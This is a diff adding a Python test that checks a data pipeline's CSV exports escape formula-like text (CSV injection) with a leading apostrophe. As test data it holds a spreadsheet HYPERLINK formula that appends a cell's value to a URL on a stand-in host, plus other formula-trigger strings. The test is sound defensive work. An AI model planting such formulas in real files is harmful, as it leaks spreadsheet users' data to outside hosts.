@@ -984,3 +984,26 @@ def test_a_served_ingest_says_it_read_files_again(
     _print_served_run("jobpipeline-ingest", record)
     said = capsys.readouterr().out
     assert "run 2: 0 changed, 0 deleted, 0 rejected, 3 read again (another jobpipeline read them);" in said, said
+
+
+def test_csv_copies_keep_formula_like_text_as_text(
+    seeds_dir: Path, warehouse: Path, write_seed: Callable[..., Path]
+) -> None:
+    """`run --csv` writes copies for Excel; a title or tag a seed's editor wrote as `=HYPERLINK(...)` (or
+    starting with +, -, @) ran as a formula when the file was opened (CSV injection). Such text gets a
+    leading `'`, which Excel takes as "this is text"; the Parquet files keep the values as written."""
+    import csv as csv_module
+
+    import polars as pl
+
+    title = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    write_seed("a.txt", make_article("alpha", title=title, extra={"tags": ["+1", "@SUM(A1)", "-2", "Python"]}))
+    run_local(seeds_dir, warehouse, "--csv")
+    published = warehouse.parent / "published"
+    with open(published / "articles.csv", encoding="utf-8-sig", newline="") as file:
+        [row] = list(csv_module.DictReader(file))
+    assert row["title"] == "'" + title
+    assert pl.read_parquet(published / "articles.parquet")["title"].to_list() == [title]
+    with open(published / "tag_counts.csv", encoding="utf-8-sig", newline="") as file:
+        tags = {line["tag"] for line in csv_module.DictReader(file)}
+    assert {"'+1", "'@SUM(A1)", "'-2", "Python"} <= tags, tags
